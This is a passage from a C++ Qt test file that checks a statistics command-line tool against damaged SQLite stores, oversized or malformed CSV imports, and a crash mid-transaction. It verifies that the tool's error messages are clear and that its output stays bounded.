                           "arrivals,total,2025,KR,224,,persons,final,today,,,press,Of today," +
                           QDate::currentDate().toString(Qt::ISODate).toUtf8() + "\n";
    const Result r =
        run({"--database", m_db, "import", write(QStringLiteral("today.csv"), csv), "--dry-run"});
    QVERIFY2(r.code == 0, qPrintable(r.err));
}

void tst_Hostile::messagesHaveNoBareQtSuffix()
{
    // A damaged store: the message is a sentence and SQLite's reason, without Qt's own suffix.
    {
        QFile f(m_db);
        QVERIFY(f.open(QIODevice::ReadWrite));
        QVERIFY(f.size() > 8192);
        f.seek(4096);
        f.write(QByteArray(f.size() - 4096, '\x5A'));
    }
    const QStringList commands[] = {
        {"data", "arrivals"}, {"audit"}, {"import", example("import-2025.csv")}};
    const char* suffixes[] = {"Unable to fetch row", "Unable to execute statement",
                              "Unable to begin transaction", "Unable to commit transaction"};
    for (const QStringList& args : commands) {
        const Result r = run(QStringList{"--database", m_db} + args);
        QCOMPARE(r.code, 1);
        QVERIFY2(r.err.contains(QStringLiteral("is damaged")), qPrintable(r.err));
        for (const char* suffix : suffixes)
            QVERIFY2(!r.err.contains(QString::fromLatin1(suffix)), qPrintable(r.err));
    }
    // A store of ours that lost a table: SQLite's reason in a sentence.
    QString error;
    QVERIFY2(ImportFixture::createStore(m_db, &error), qPrintable(error));
    {
        QSqlDatabase db =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("raw"));
        db.setDatabaseName(m_db);
        QVERIFY(db.open());
        QSqlQuery q(db);
        QVERIFY(q.exec(QStringLiteral("DROP TABLE events")));
        q.finish();
        db.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("raw"));
    for (const QStringList& args : commands) {
        const Result r = run(QStringList{"--database", m_db} + args);
        QCOMPARE(r.code, 1);
        QVERIFY2(r.err.contains(QStringLiteral("Cannot read the database: no such table: events")),
                 qPrintable(r.err));
        for (const char* suffix : suffixes)
            QVERIFY2(!r.err.contains(QString::fromLatin1(suffix)), qPrintable(r.err));
    }
}

// ---------------------------------------------------------------------------------------------
// 1. Bounded reports

void tst_Hostile::reportsAreBounded_data()
{
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("expected");
    QByteArray commas = "dataset" + QByteArray(2'000'000, ',') + "\n";
    QTest::newRow("a header of two million commas")
        << commas << "line 1: the header has 2000001 columns; an import file has at most";
    QByteArray repeated = "dataset";
    for (int i = 0; i < 20; ++i)
        repeated += ",dataset";
    repeated += "\n";
    QTest::newRow("a column twenty times")
        << repeated << "line 1, column 2: column \"dataset\" appears twice";
    QByteArray empty = Header.trimmed() + "\n";
    const QByteArray emptyRow(13, ',');
    while (empty.size() < 4'000'000)
        empty += emptyRow + "\n";
    QTest::newRow("4 MB of rows of empty fields") << empty << "more problems, by kind:";
    // 20,000 valid figures citing one source with a 100 kB title: the preview names it in
    // every line.
    QByteArray big = Header;
    big += "arrivals,total,2020,KR,0,,persons,final,long-title,,,press," +
           QByteArray(100'000, 'T') + ",Outlet\n";
    for (int i = 1; i < 20'000; ++i)
        big +=
            "arrivals,total,2020,KR," + QByteArray::number(i) + ",,persons,final,long-title,,,,,\n";
    QTest::newRow("20,000 figures, a 100 kB title") << big << "… and 19800 more";
}

void tst_Hostile::reportsAreBounded()
{
    QFETCH(QByteArray, content);
    QFETCH(QString, expected);
    const QString file = write(QStringLiteral("hostile.csv"), content);
    // Memory: at most 2 GB of address space (not under a sanitizer, which reserves terabytes).
    QProcess p;
    p.setProcessEnvironment(environment());
    if (qEnvironmentVariableIsSet("CROSSINGS_SANITIZED")) {
        p.start(QStringLiteral(CROSSINGS_BINARY),
                {"--database", m_db, "import", file, "--dry-run"});
    } else {
        p.start(QStringLiteral("/bin/sh"),
                {"-c", QStringLiteral("ulimit -v 2000000 && exec '%1' --database '%2' import '%3' "
                                      "--dry-run")
                           .arg(QStringLiteral(CROSSINGS_BINARY), m_db, file)});
    }
    QVERIFY(p.waitForFinished(180000));
    const QByteArray out = p.readAllStandardOutput();
    const QByteArray err = p.readAllStandardError();
    QCOMPARE(p.exitStatus(), QProcess::NormalExit);
    // Bounded: the first problems, then counts; the first preview lines, then a count.
    QVERIFY2(out.size() + err.size() < 400'000,
             qPrintable(QStringLiteral("%1 bytes of output").arg(out.size() + err.size())));
    QVERIFY2(out.count('\n') + err.count('\n') < 1000, err.left(2000).constData());
    QVERIFY2(QString::fromUtf8(out + err).contains(expected), (out + err).left(3000).constData());
}

/// The child of leaveHotJournal("spilled pages"): changes every figure in a transaction with a
/// cache too small to hold the changes (so SQLite writes them into the file, after the journal),
/// then dies without committing or rolling back.
static int crashInTransaction(const QString& path)
{
    QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"));
    db.setDatabaseName(path);
    if (!db.open())
        return 3;
    QSqlQuery q(db);
    for (const char* sql :
         {"PRAGMA cache_size = 1", "BEGIN", "UPDATE observations SET value = value + 1000",
          "INSERT INTO meta (key, value) VALUES ('filler', hex(randomblob(300000)))"}) {
        if (!q.exec(QString::fromLatin1(sql))) {
            fprintf(stderr, "%s: %s\n", sql, qPrintable(q.lastError().text()));
            return 4;
        }
    }
    fflush(nullptr);
    _exit(0); // no commit, no rollback, no close
}

int main(int argc, char** argv)
{
    if (argc == 3 && qstrcmp(argv[1], "--crash-in-transaction") == 0) {
        QCoreApplication app(argc, argv);
        return crashInTransaction(QString::fromLocal8Bit(argv[2]));
    }
    QCoreApplication app(argc, argv);
    tst_Hostile tc;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&tc, argc, argv);
}
#include "tst_hostile.moc"
